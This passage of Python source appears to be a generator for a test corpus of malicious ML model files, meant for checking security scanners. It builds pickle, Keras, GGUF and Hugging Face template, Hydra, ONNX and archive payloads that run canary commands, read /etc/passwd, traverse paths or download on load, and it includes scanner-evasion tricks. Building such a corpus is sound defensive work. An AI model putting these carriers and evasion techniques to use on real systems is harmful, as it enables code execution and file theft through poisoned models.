          "text+pickle", "first line 'V...' is a UNICODE opcode: a text-looking vocabulary that pickle.load runs")
    c.mal(k, "merges.txt", b"cposix\nsystem\n(S'echo MLSECOPS-C-CANARY'\ntR.\n#version: 0.2\nh e\n", "text+pickle",
          "protocol-0 pickle disguised as a BPE merges file")
    c.mal(k, "config.yaml", b"Version: 2\n0" + b"csubprocess\ngetoutput\n(V" + CMD.encode()
          + b"\ntR.", "text+pickle", "first line 'Version: 2' is a UNICODE opcode; protocol-0 pickle named config.yaml")
    c.mal(k, "README", b"GIF89a\x00\x00\x00" + b"0" + system_pickle(4)[2:], "gif+pickle",
          "GIF-headed protocol-4 frame pickle with no extension")


def archive_tricks(c: Corpus) -> None:
    k = "archive-structure"
    storages = system_pickle(2)  # returns 0 -> "num_storages"
    legacy_tar = tar_bytes([("sys_info", pk(enc({"protocol_version": 1001}, 2), 2)), ("storages", storages + pk(b"]", 2)),
                            ("tensors", pk(b"K\x00", 2)), ("pickle", pk(b"}", 2))], fmt=tarfile.PAX_FORMAT)
    c.mal(k, "torch_tar_legacy.pt", legacy_tar, "torch-legacy-tar",
          "pre-1.0 torch tar format: member 'storages' (no extension) is unpickled first; payload returns 0 storages")
    legacy_tar2 = tar_bytes([("storages", pk(b"K\x00", 2) + pk(b"]", 2)), ("tensors", pk(b"K\x00", 2)),
                             ("pickle", simple_call("subprocess", "getoutput", (CMD,), 2))])
    c.mal(k, "torch_tar_legacy_pickle.pth", legacy_tar2, "torch-legacy-tar",
          "pre-1.0 torch tar format with the payload in the extension-less 'pickle' member")
    dup = zip_bytes([("archive/data.pkl", pk(b"}", 2)), ("archive/version", b"3\n"),
                     ("archive/data.pkl", system_pickle(2))])
    c.mal(k, "duplicate_member.pt", dup, "torch-zip", "zip with two archive/data.pkl entries: benign first, payload last")
    c.mal(k, "zip_backslash_traversal.zip",
          zip_bytes([("model/weights.pkl", pk(b"}", 2)), ("..\\..\\..\\tmp\\mlsecops-c-evil.pth", b"import os\n")]),
          "zip", "member name with Windows backslash traversal '..\\..\\' (extracts outside on Windows tools)")
    c.mal(k, "zip_absolute_member.zip", zip_bytes([("/tmp/mlsecops-c-abs.pkl", system_pickle(2))]), "zip",
          "absolute member path holding a pickle")
    c.mal(k, "zip_symlink_member.zip",
          zip_bytes([("model/config.json", b"/etc/passwd")], attrs={"model/config.json": 0o120777}), "zip",
          "zip member flagged as a symlink (unix mode 0120777) to /etc/passwd; unzip/Java extract the link")
    c.mal(k, "tar_pax_path_override.tar",
          tar_bytes([("weights.txt", system_pickle(2))], pax={"weights.txt": {"path": "../../tmp/mlsecops-c.pkl"}}),
          "tar", "PAX 'path' record overrides the ustar name with a traversal path to a pickle")
    c.mal(k, "tar_hardlink_etc.tar", tar_bytes([("model/vocab.txt", ("hard", "/etc/passwd"))]), "tar",
          "hard link member to /etc/passwd")
    c.mal(k, "tar_symlink_then_write.tar",
          tar_bytes([("model/cache", ("sym", "/tmp/mlsecops-c-dir")), ("model/cache/hook.pkl", system_pickle(2))]),
          "tar", "symlink member then a file written through it (link-follow write)")
    nested = gz(tar_bytes([("inner.zip", zip_bytes([("a/b.pkl.gz", gz(tar_bytes([("weights", system_pickle(4))])))]))]))
    c.mal(k, "deep_nesting.tar.gz", nested, "tar.gz",
          "gz(tar(zip(gz(tar(extension-less pickle))))): five container levels")
    c.mal(k, "gnu_longname.tar",
          tar_bytes([("m/" + "d" * 120 + "/model.pkl", system_pickle(3))], fmt=tarfile.GNU_FORMAT), "tar",
          "GNU long-name record (././@LongLink) hides the member name from a ustar-only reader")
    prefix = b"\x00" * 512 + b"MLSECOPS-C junk\n"
    c.mal(k, "prepended_bundle.zip", prefix + zip_bytes([("w.npy", npy_raw("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
                                                                          system_pickle(3)))]),
          "zip", "zip of an object .npy with 528 junk bytes before the first local header (zipfile still opens it)")
    c.mal(k, "zip_lzma_member.pt", torch_zip(system_pickle(2), method=zipfile.ZIP_LZMA), "torch-zip",
          "torch-style zip whose data.pkl is LZMA-compressed (method 14)")


def compression_tricks(c: Corpus) -> None:
    k = "compression-streams"
    pay = simple_call("subprocess", "getoutput", (CMD,), 4)
    c.mal(k, "lzma_alone.joblib", lzma.compress(pay, format=lzma.FORMAT_ALONE), "joblib-lzma",
          "joblib 'lzma' compressor: legacy .lzma ALONE stream (no xz magic)")
    half = len(pay) // 2
    c.mal(k, "split_gzip_members.pkl.gz", gz(pay[:half]) + gz(pay[half:]), "gzip",
          "pickle split across two concatenated gzip members (first member alone is truncated)")
    c.mal(k, "split_bz2_streams.pkl.bz2", bz2.compress(pay[:half]) + bz2.compress(pay[half:]), "bz2",
          "pickle split across two concatenated bzip2 streams")
    c.mal(k, "split_xz_streams.pkl.xz", lzma.compress(pay[:half]) + lzma.compress(pay[half:]), "xz",
          "pickle split across two concatenated xz streams")
    try:
        import zstandard

        skippable = struct.pack("<II", 0x184D2A50, 8) + b"MLSECOPS"
        z = zstandard.ZstdCompressor(level=3).compress(pay)
        c.mal(k, "skippable_frame.pkl.zst", skippable + z, "zstd",
              "zstd stream that starts with a skippable frame (magic 0x184D2A50) instead of 28 B5 2F FD")
    except ImportError:
        pass
    c.mal(k, "zlib_raw.joblib", zlib.compress(pay, 9), "joblib-zlib", "joblib 'zlib' compressor: bare zlib stream")
    c.mal(k, "gzip_fextra_fcomment.pkl.gz",
          b"\x1f\x8b\x08\x14\x00\x00\x00\x00\x00\x03" + struct.pack("<H", 6) + b"MC\x02\x00ok"
          + b"MLSECOPS-C comment\x00" + zlib.compress(pay)[2:-4] + struct.pack("<II", zlib.crc32(pay), len(pay)),
          "gzip", "gzip member with FEXTRA and FCOMMENT header fields")
    c.mal(k, "pandas_pickle.pkl.tar", tar_bytes([("frame.pkl", pay)]), "pandas-tar",
          "pandas read_pickle(compression='tar') layout: a tar holding one pickle")


def npy_tricks(c: Corpus) -> None:
    k = "npy-header-confusion"
    pay = system_pickle(3)
    cases = [
        ("dup_descr.npy", "{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }", (1, 0),
         "header dict with 'descr' twice: literal_eval keeps the last ('|O')"),
        ("concat_descr.npy", "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }", (1, 0),
         "descr written as implicit string concatenation '|' 'O'"),
        ("escaped_descr.npy", "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }", (1, 0),
         "descr written with a \\x7c escape"),
        ("comment_descr.npy", "{'descr': '|O', # 'descr': '<f4'\n 'fortran_order': False, 'shape': (1,), }", (1, 0),
         "header with a Python comment and an embedded newline"),
        ("v2_object.npy", "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", (2, 0),
         "version 2.0 header (4-byte header length) with object dtype"),
        ("v3_object.npy", "{'descr': 'O', 'fortran_order': True, 'shape': (1, 1), }", (3, 0),
         "version 3.0 (utf8) header, fortran order, object dtype"),
        ("long_suffix.npy", "{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }", (1, 0),
         "Python-2 '1L' shape (numpy filters it with tokenize) on an object array"),
        ("nested_struct.npy", "{'descr': [('a', '<f4'), ('b', [('c', '|O', (2,))])], 'fortran_order': False, 'shape': (1,), }",
         (1, 0), "object field inside a nested structured sub-array dtype"),
    ]
    for name, header, ver, tech in cases:
        c.mal(k, name, npy_raw(header, pay, ver), "npy", tech)
    c.mal(k, "raw_pickle.npy", pay, "npy-fallback", "plain pickle named .npy: np.load(allow_pickle=True) falls back to pickle.load")
    c.mal(k, "members.npz", zip_bytes([("weights.npy", npy_raw("{'descr': '<f8', 'descr': 'O', 'fortran_order': False, 'shape': (1,), }", pay)),
                                       ("bias", pay)], method=zipfile.ZIP_DEFLATED), "npz",
          "deflated npz: duplicate-descr member plus an extension-less member")


def keras_tricks(c: Corpus) -> None:
    k = "keras-config-tricks"
    code = (lambda x: __import__("os").system("echo MLSECOPS-C-CANARY") or x).__code__
    b64code = base64.b64encode(marshal.dumps(code)).decode()
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lam",
           "config": {"name": "lam", "trainable": True, "dtype": "float32",
                      "function": {"class_name": "__lambda__", "config": {"code": b64code, "defaults": None, "closure": None}},
                      "output_shape": None, "arguments": {}}}
    dense = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "name": "d",
             "config": {"name": "d", "units": 2, "use_bias": True, "trainable": True, "dtype": "float32"}}
    inp = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "in",
           "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "in"}}

    def seq(layers: list[dict[str, Any]]) -> dict[str, Any]:
        return {"module": "keras", "class_name": "Sequential", "registered_name": None,
                "config": {"name": "seq", "trainable": True, "dtype": "float32", "layers": layers}}

    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}).encode()

    def keras_zip(cfg: bytes, extra: list[tuple[str, bytes]] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
        return zip_bytes([("metadata.json", meta), ("config.json", cfg)] + (extra or []), method=method)

    act = json.loads(json.dumps(dense))
    act["config"]["activation"] = {"class_name": "__lambda__", "config": {"code": b64code, "defaults": None, "closure": None}}
    c.mal(k, "dense_lambda_activation.keras", keras_zip(json.dumps(seq([inp, act])).encode()), "keras",
          "marshal code as a Dense layer's activation ('__lambda__' object, no Lambda layer)")
    wrapped = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
               "config": {"name": "td", "layer": lam}}
    c.mal(k, "timedistributed_lambda.keras", keras_zip(json.dumps(seq([inp, wrapped])).encode()), "keras",
          "Lambda nested inside a TimeDistributed wrapper's 'layer' config")
    c.mal(k, "utf16_config.keras", keras_zip(b"\xff\xfe" + json.dumps(seq([inp, lam])).encode("utf-16-le")), "keras",
          "config.json in UTF-16 with BOM (json.loads(bytes) auto-detects it)")
    esc = json.dumps(seq([inp, lam])).replace('"Lambda"', '"\\u004cambda"').replace('"__lambda__"', '"\\u005f_lambda__"')
    c.mal(k, "unicode_escaped_names.keras", keras_zip(esc.encode()), "keras",
          "class names written with JSON \\u escapes (\\u004cambda)")
    dupkey = json.dumps(seq([inp, lam])).replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"')
    c.mal(k, "duplicate_key.keras", keras_zip(dupkey.encode()), "keras",
          "layer object with class_name twice: a first-key reader sees Dense, json.loads keeps Lambda")
    c.mal(k, "duplicate_config_member.keras",
          zip_bytes([("metadata.json", meta), ("config.json", json.dumps(seq([inp, dense])).encode()),
                     ("config.json", json.dumps(seq([inp, lam])).encode())]), "keras",
          "two config.json members: benign first, Lambda last (zipfile resolves the name to the last)")
    c.mal(k, "lzma_member.keras", keras_zip(json.dumps(seq([inp, lam])).encode(), method=zipfile.ZIP_LZMA), "keras",
          "config.json LZMA-compressed inside the zip")
    getfile = {"module": "keras.src.utils.file_utils", "class_name": "get_file", "registered_name": None,
               "config": {"fname": "mlsecops-c", "origin": "http://127.0.0.1:9/mlsecops-c.h5", "cache_dir": "/tmp"}}
    c.mal(k, "get_file_src_path.keras", keras_zip(json.dumps(seq([inp, getfile])).encode()), "keras",
          "CVE-2025-8747 style: keras function get_file named by its src module path, download on load")
    try:
        import h5py
        import numpy as np

        buf = io.BytesIO()
        with h5py.File(buf, "w") as f:
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
            legacy = {"class_name": "Sequential", "config": {"name": "s", "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "in"}},
                {"class_name": "Bidirectional", "config": {"name": "bi", "layer": {
                    "class_name": "Lambda", "config": {"name": "l", "function": [b64code, None, None],
                                                       "function_type": "lambda", "arguments": {}}}}}]}}
            f.attrs["model_config"] = np.bytes_(json.dumps(legacy).encode())
            f.create_group("model_weights")
        c.mal(k, "bidirectional_lambda.hdf5", buf.getvalue(), "keras-h5",
              "legacy HDF5 (.hdf5 name) model_config: Lambda inside a Bidirectional wrapper, stored as bytes")
    except ImportError:
        pass


def hdf5_pickle(c: Corpus) -> None:
    k = "hdf5-pickle-carriers"
    try:
        import h5py
        import numpy as np
    except ImportError:
        return
    for name, compress, tech in (
        ("pytables_object.h5", None, "PyTables VLArray with PSEUDOATOM='object' (pandas HDFStore): rows are pickles"),
        ("pytables_object_gzip.hdf5", "gzip", "same, the pickle bytes gzip-filtered inside HDF5 chunks"),
        ("store.h5", "lzf", "same, lzf-filtered, named like a pandas HDFStore"),
    ):
        buf = io.BytesIO()
        with h5py.File(buf, "w") as f:
            for key, val in (("CLASS", b"GROUP"), ("PYTABLES_FORMAT_VERSION", b"2.1"), ("TITLE", b""), ("VERSION", b"1.0")):
                f.attrs[key] = np.bytes_(val)
            dt = h5py.vlen_dtype(np.dtype("uint8"))
            ds = f.create_dataset("obj", (1,), dtype=dt, chunks=(1,), compression=compress)
            ds[0] = np.frombuffer(system_pickle(2), dtype=np.uint8)
            for key, val in (("CLASS", b"VLARRAY"), ("VERSION", b"1.4"), ("TITLE", b""), ("PSEUDOATOM", b"object")):
                ds.attrs[key] = np.bytes_(val)
        c.mal(k, name, buf.getvalue(), "hdf5-pytables", tech)


def gguf_templates(c: Corpus) -> None:
    k = "gguf-template-obfuscation"
    base = [("general.architecture", 8, "llama"), ("general.name", 8, "mlsecops-c")]
    benign_tpl = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    tpls = [
        ("attr_concat.gguf", "{{ ''|attr('__cl' ~ 'ass__')|attr('__ba' ~ 'se__')|attr('__subcl' ~ 'asses__')() }}",
         "SSTI walking __class__/__base__/__subclasses__ through |attr with ~ concatenation"),
        ("format_chars.gguf",
         "{% set u = '%c%c'|format(95,95) %}{{ cycler|attr(u ~ 'init' ~ u)|attr(u ~ 'glob' ~ 'als' ~ u) }}",
         "dunder names built with '%c'|format(95,95); cycler.__init__.__globals__"),
        ("lipsum_popen.gguf", "{{ lipsum['__glob''als__']['os'].popen('" + CMD + "').read() }}",
         "lipsum.__globals__ with adjacent-literal concatenation, os.popen"),
        ("join_filter.gguf", "{% set n = ['__', 'globals', '__']|join %}{{ joiner|attr('__init__')|attr(n) }}",
         "attribute name assembled with |join"),
    ]
    for name, tpl, tech in tpls:
        c.mal(k, name, gguf(base + [("tokenizer.chat_template", 8, benign_tpl + tpl)]), "gguf", tech)
    c.mal(k, "named_tool_use_template.gguf",
          gguf(base + [("tokenizer.chat_template", 8, benign_tpl),
                       ("tokenizer.chat_template.tool_use", 8, "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + CMD + "').read() }}")]),
          "gguf", "benign default template, SSTI in the named 'tokenizer.chat_template.tool_use' template")
    c.mal(k, "big_endian.gguf",
          gguf(base + [("tokenizer.chat_template", 8, "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}")],
               big_endian=True), "gguf-be", "big-endian GGUF v3 (byte-swapped version field) with an SSTI template")
    c.mal(k, "template_list_key.gguf",
          gguf(base + [("tokenizer.chat_templates", 9, ["default", "rag"]),
                       ("tokenizer.chat_template.rag", 8, "{{ namespace.__init__.__globals__.os.system('" + CMD + "') }}")]),
          "gguf", "SSTI in a named template listed by the 'tokenizer.chat_templates' array")


def _tok_folder(extra: dict[str, bytes], cfg: dict[str, Any] | None = None) -> dict[str, bytes]:
    tok = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
           "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None, "decoder": None,
           "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "hello": 1}, "unk_token": "[UNK]"}}
    files = {"tokenizer.json": json.dumps(tok).encode(),
             "tokenizer_config.json": json.dumps(cfg or {"tokenizer_class": "PreTrainedTokenizerFast",
                                                          "unk_token": "[UNK]"}).encode()}
    files.update(extra)
    return files


def hf_templates(c: Corpus) -> None:
    k = "hf-tokenizer-templates"
    ssti = "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"
    c.mal(k, "tok_template_list", _tok_folder({}, {"tokenizer_class": "PreTrainedTokenizerFast",
                                                   "chat_template": [{"name": "default", "template": "{{ messages }}"},
                                                                     {"name": "tool_use", "template": ssti}]}),
          "hf-tokenizer", "tokenizer_config.json chat_template in list form; SSTI in the 'tool_use' entry")
    c.mal(k, "tok_template_jinja_file", _tok_folder({"chat_template.jinja": ssti.encode()}), "hf-tokenizer",
          "SSTI in a separate chat_template.jinja file (transformers >= 4.5x layout)")
    c.mal(k, "tok_additional_templates", _tok_folder({"additional_chat_templates/rag.jinja": ssti.encode()}),
          "hf-tokenizer", "SSTI in additional_chat_templates/rag.jinja")
    c.mal(k, "processor_chat_template", _tok_folder({"chat_template.json": json.dumps({"chat_template": ssti}).encode()}),
          "hf-processor", "SSTI in a processor's chat_template.json")
    esc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ssti}).replace("__", "\\u005f\\u005f")
    c.mal(k, "tok_template_json_escapes", _tok_folder({}, None) | {"tokenizer_config.json": esc.encode()}, "hf-tokenizer",
          "chat_template whose dunders are JSON \\u005f escapes in tokenizer_config.json")
    remote = "import os\nos.system('" + CMD + "')\nclass CTokenizer:\n    pass\n"
    c.mal(k, "tok_auto_map_list", _tok_folder({"tokenization_c.py": remote.encode()},
                                              {"tokenizer_class": "CTokenizer",
                                               "auto_map": {"AutoTokenizer": ["tokenization_c.CTokenizer", None]}}),
          "hf-tokenizer", "tokenizer_config.json auto_map in list form -> tokenization_c.py runs os.system")


def hf_remote_code(c: Corpus) -> None:
    k = "hf-remote-code-variants"
    code = ("import os\nos.system('" + CMD + "')\nclass M:\n    pass\n").encode()
    cfg = {"model_type": "c", "architectures": ["M"]}
    c.mal(k, "cross_repo_auto_map",
          {"config.json": json.dumps(cfg | {"auto_map": {"AutoModel": "mlsecops-c/evil-repo--modeling_c.M"}}).encode()},
          "hf-folder", "auto_map 'org/repo--module.Class': code fetched from another repo, nothing local to review")
    c.mal(k, "custom_pipelines", {"config.json": json.dumps(cfg | {"custom_pipelines": {"c-task": {
        "impl": "pipeline_c.CPipeline", "pt": ["AutoModel"]}}}).encode(), "pipeline_c.py": code}, "hf-folder",
          "config.json custom_pipelines -> pipeline_c.py imported by pipeline(trust_remote_code=True)")
    c.mal(k, "image_processor_auto_map", {"config.json": json.dumps(cfg).encode(),
                                          "preprocessor_config.json": json.dumps({"image_processor_type": "CImageProcessor",
                                                                                  "auto_map": {"AutoImageProcessor": "image_processing_c.CImageProcessor"}}).encode(),
                                          "image_processing_c.py": code}, "hf-folder",
          "preprocessor_config.json auto_map -> image_processing_c.py")
    c.mal(k, "diffusers_custom_component",
          {"model_index.json": json.dumps({"_class_name": "DiffusionPipeline", "_diffusers_version": "0.30.0",
                                           "unet": ["my_unet", "MyUNet"]}).encode(),
           "unet/my_unet.py": code, "unet/config.json": b"{}"}, "diffusers-folder",
          "diffusers model_index.json names a non-library module: unet/my_unet.py is imported")
    c.mal(k, "custom_generate", {"config.json": json.dumps(cfg).encode(), "custom_generate/generate.py": code},
          "hf-folder", "custom_generate/generate.py (generate(custom_generate=..., trust_remote_code=True))")
    c.mal(k, "sentence_transformers_module",
          {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Pooler"}]).encode(),
           "custom_st.py": code, "config_sentence_transformers.json": b"{}"}, "st-folder",
          "sentence-transformers modules.json type 'custom_st.Pooler' -> custom_st.py imported")
    c.mal(k, "hydra_target_nemo.nemo",
          gz(tar_bytes([("./model_config.yaml", b"target: nemo.collections.C\nencoder:\n  _target_: builtins.exec\n  _args_:\n    - \""
                         + PY_CANARY.encode() + b"\"\n"), ("./model_weights.ckpt", pk(b"}", 2))])),
          "nemo-tar.gz", "NeMo archive: Hydra '_target_: builtins.exec' in model_config.yaml (instantiate runs it)")
    c.mal(k, "hydra_config_folder",
          {"config.yaml": b"model:\n  _target_: subprocess.getoutput\n  _args_: [\"" + CMD.encode() + b"\"]\n",
           "model.safetensors": _safetensors_min()}, "hydra-folder",
          "model folder whose Hydra config.yaml '_target_: subprocess.getoutput' is instantiated by the loader")
    c.mal(k, "mlflow_loader_module",
          {"MLmodel": b"flavors:\n  python_function:\n    loader_module: c_loader\n    code: code\n    data: data\n",
           "code/c_loader.py": code, "data/.keep": b""}, "mlflow-folder",
          "MLflow MLmodel loader_module c_loader from code/ (imported by mlflow.pyfunc.load_model)")


def onnx_external(c: Corpus) -> None:
    k = "onnx-external-data"
    const = onnx_node("Constant", [], ["c"], pb_len(5, pb_len(1, b"value") + pb_len(5, onnx_tensor("v", "../../../../etc/passwd")) + pb_int(20, 4)))
    g = pb_len(1, const) + pb_len(2, b"g") + pb_len(12, onnx_value_info("c"))
    c.mal(k, "constant_attr_external.onnx", onnx_model(g), "onnx",
          "external-data traversal inside a Constant node's 'value' attribute tensor (not graph.initializer)")
    then_g = pb_len(5, onnx_tensor("t", "/etc/shadow")) + pb_len(2, b"then") + pb_len(12, onnx_value_info("t"))
    else_g = pb_len(5, onnx_tensor("e", "weights.bin")) + pb_len(2, b"else") + pb_len(12, onnx_value_info("e"))
    if_attrs = (pb_len(5, pb_len(1, b"then_branch") + pb_len(6, then_g) + pb_int(20, 5))
                + pb_len(5, pb_len(1, b"else_branch") + pb_len(6, else_g) + pb_int(20, 5)))
    g = (pb_len(1, onnx_node("If", ["cond"], ["y"], if_attrs)) + pb_len(2, b"g")
         + pb_len(11, pb_len(1, b"cond") + pb_len(2, pb_len(1, pb_int(1, 9)))) + pb_len(12, onnx_value_info("y")))
    c.mal(k, "if_subgraph_external.onnx", onnx_model(g), "onnx",
          "absolute external-data path in an If node's then_branch subgraph initializer")
    sparse = pb_len(1, onnx_tensor("sv", "../../../etc/hostname")) + pb_len(2, onnx_tensor("si", "idx.bin")) + pb_int(3, 4)
    g = pb_len(2, b"g") + pb_len(15, sparse) + pb_len(12, onnx_value_info("sv"))
    c.mal(k, "sparse_initializer_external.onnx", onnx_model(g), "onnx",
          "traversal in a sparse_initializer's values tensor")
    g = pb_len(5, onnx_tensor("w", "weights.bin")) + pb_len(2, b"g") + pb_len(12, onnx_value_info("w"))
    c.mal(k, "symlinked_external_data", {"model.onnx": onnx_model(g), "weights.bin": "/etc/passwd"}, "onnx-folder",
          "plain external-data name 'weights.bin' that is a symlink to /etc/passwd")
    g = pb_len(5, onnx_tensor("w", "file:///etc/passwd")) + pb_len(2, b"g") + pb_len(12, onnx_value_info("w"))
    c.mal(k, "uri_location.onnx", onnx_model(g), "onnx", "external-data location written as a file:// URI")
    g = pb_len(5, onnx_tensor("w", "..\\..\\..\\Windows\\win.ini")) + pb_len(2, b"g") + pb_len(12, onnx_value_info("w"))
    c.mal(k, "backslash_location.onnx", onnx_model(g), "onnx", "Windows backslash traversal in an external-data location")


def torch_carriers(c: Corpus) -> None:
    k = "torch-checkpoint-carriers"
    c.mal(k, "magic_number_payload.pt", torch_legacy(pk(b"}", 2), magic=system_pickle(2)), "torch-legacy",
          "legacy torch file: payload in the first (magic-number) pickle, unpickled before any check")
    c.mal(k, "renamed_archive_prefix.pth", torch_zip(system_pickle(2), prefix="resnet50_weights"), "torch-zip",
          "torch zip whose top folder is not 'archive'")
    c.mal(k, "protocol0_data_pkl.pt", torch_zip(b"cposix\nsystem\n(V" + CMD.encode() + b"\ntR."), "torch-zip",
          "torch zip whose data.pkl is a text protocol-0 pickle using 'posix'")
    ckpt_body = (b"}(" + su("state_dict") + b"}" + su("hyper_parameters") + b"}(" + su("lr") + b"G?PbM\xd2\xf1\xa9\xfc"
                 + su("callback") + call(sglob("subprocess", "getoutput"), (CMD,), 4) + b"u" + b"u")
    c.mal(k, "lightning.ckpt", torch_zip(pk(ckpt_body, 4)), "torch-zip",
          "Lightning-style checkpoint: payload nested in hyper_parameters")
    hf = {"config.json": json.dumps({"model_type": "bert"}).encode(),
          "model.safetensors": _safetensors_min(),
          "training_args.bin": torch_zip(simple_call("os", "system", (CMD,), 2)),
          "optimizer.pt": torch_zip(pk(b"}", 2)), "rng_state.pth": torch_legacy(pk(b"}", 2), sysinfo=system_pickle(2))}
    c.mal(k, "hf_checkpoint_dir", hf, "hf-checkpoint",
          "Trainer checkpoint folder: safe weights, payloads in training_args.bin and rng_state.pth (legacy sys_info)")
    c.mal(k, "model.safetensors", torch_zip(system_pickle(2)), "torch-zip-misnamed",
          "torch zip with a payload named model.safetensors")
    c.mal(k, "pytorch_model.bin.index.json.bin", torch_zip(system_pickle(5)), "torch-zip",
          "double extension .json.bin torch zip")


def _safetensors_min() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    header += b" " * ((8 - len(header) % 8) % 8)
    return struct.pack("<Q", len(header)) + header + b"\x00" * 8


def broken_streams(c: Corpus) -> None:
    k = "nullifai-broken-streams"
    pay = simple_call("os", "system", (CMD,), 2)[:-1]
    c.mal(k, "payload_then_garbage.pkl", pay + b"\xff\xfe\xfd" + b".", "pickle-p2",
          "payload REDUCE runs, then an invalid opcode aborts the load (nullifAI)")
    c.mal(k, "payload_no_stop.pkl", pay, "pickle-p2", "payload REDUCE with no STOP opcode (EOF error after execution)")
    c.mal(k, "broken_torch.pt", torch_zip(pay + b"0" + b"\x00garbage"), "torch-zip",
          "torch zip whose data.pkl breaks right after the payload")
    c.mal(k, "short_frame.pkl", proto(4) + b"\x95" + struct.pack("<Q", 4) + su("os") + su("system") + b"\x93"
          + enc((CMD,), 4) + b"R.", "pickle-p4", "FRAME covers only the first opcode; the payload follows outside any frame")


def cloudpickle_code(c: Corpus) -> None:
    k = "code-object-pickles"
    try:
        import cloudpickle
    except ImportError:
        return

    def payload() -> int:
        return __import__("os").system("echo MLSECOPS-C-CANARY")

    c.mal(k, "cloudpickle_call.pkl", cloudpickle.dumps(_Reduce(payload, ()), protocol=4), "cloudpickle",
          "cloudpickle'd function by value, called by REDUCE during load")
    c.mal(k, "marshal_function.pkl",
          pk(sglob("types", "FunctionType") + b"(" + sglob("marshal", "loads")
             + enc((marshal.dumps(payload.__code__),), 4) + b"R" + b"}" + b"tR" + b")R", 4), "pickle-p4",
          "types.FunctionType(marshal.loads(<code>), {}) then called")


def skops_untrusted(c: Corpus) -> None:
    k = "skops-untrusted-types"

    def skops(schema: dict[str, Any]) -> bytes:
        schema.setdefault("protocol", 2)
        schema.setdefault("_skops_version", "0.10.0")
        return zip_bytes([("schema.json", json.dumps(schema).encode())], method=zipfile.ZIP_DEFLATED)

    def js(v: str) -> dict[str, Any]:
        return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": v, "is_json": False}

    ft = {"__class__": "FunctionTransformer", "__module__": "sklearn.preprocessing._function_transformer",
          "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                                                  "content": {"func": {"__class__": "system", "__module__": "os",
                                                                       "__loader__": "FunctionNode"}}}}
    c.mal(k, "function_node_os_system.skops", skops(ft), "skops", "FunctionTransformer.func = os.system (FunctionNode)")
    part = json.loads(json.dumps(ft))
    part["content"]["content"]["func"] = {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
                                          "content": {"func": {"__class__": "getoutput", "__module__": "subprocess", "__loader__": "FunctionNode"},
                                                      "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [js(CMD)]},
                                                      "kwds": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}},
                                                      "namespace": {"__class__": "NoneType", "__module__": "builtins", "__loader__": "JsonNode", "content": "null", "is_json": True}}}
    c.mal(k, "partial_node_getoutput.skops", skops(part), "skops", "PartialNode wrapping subprocess.getoutput with the command")
    c.mal(k, "reduce_node_popen.skops",
          skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ConstructorFromReduceNode",
                 "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                             "content": [js("sh")]}}), "skops",
          "ConstructorFromReduceNode calls subprocess.Popen(*content) at load")
    c.mal(k, "operator_methodcaller.skops",
          skops({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
                 "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                           "content": [js("system"), js(CMD)]}}), "skops",
          "OperatorFuncNode methodcaller('system', cmd)")
    card = b"---\nlibrary_name: sklearn\nmodel_file: model.pkl\nmodel_format: pickle\n---\n# model\n"
    c.mal(k, "skops_card_joblib_fallback",
          {"README.md": card, "model.pkl": b"GIF89a\x01\x00\x01" + b"0" + system_pickle(2)[2:]}, "skops-card",
          "skops Card.get_model joblib fallback (CVE-2025-54886) on a GIF-headed pickle")


def deferred_trigger(c: Corpus) -> None:
    k = "deferred-trigger"
    import pickle

    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    pipe = Pipeline([("s", StandardScaler()), ("m", LogisticRegression())], memory="/tmp/mlsecops-c-cache")
    c.mal(k, "pipeline_shared_cache.pkl", pickle.dumps(pipe, protocol=4), "pickle-p4",
          "only trusted sklearn classes; Pipeline(memory='/tmp/...') unpickles joblib cache files from /tmp on fit")
    body = (sglob("collections", "defaultdict") + b"(" + sglob("subprocess", "getoutput") + b"tR"
            + b"}(" + su("x") + b"K\x01u" + b"b")
    c.mal(k, "defaultdict_factory.pkl", pk(body, 4), "pickle-p4",
          "defaultdict(default_factory=subprocess.getoutput): runs on the first missing key")


def joblib_sidecar(c: Corpus) -> None:
    k = "joblib-sidecar-arrays"

    def wrapper(filename: str) -> bytes:
        # joblib <= 0.9 layout: NDArrayWrapper names a side file that NumpyUnpickler np.load()s with allow_pickle=True
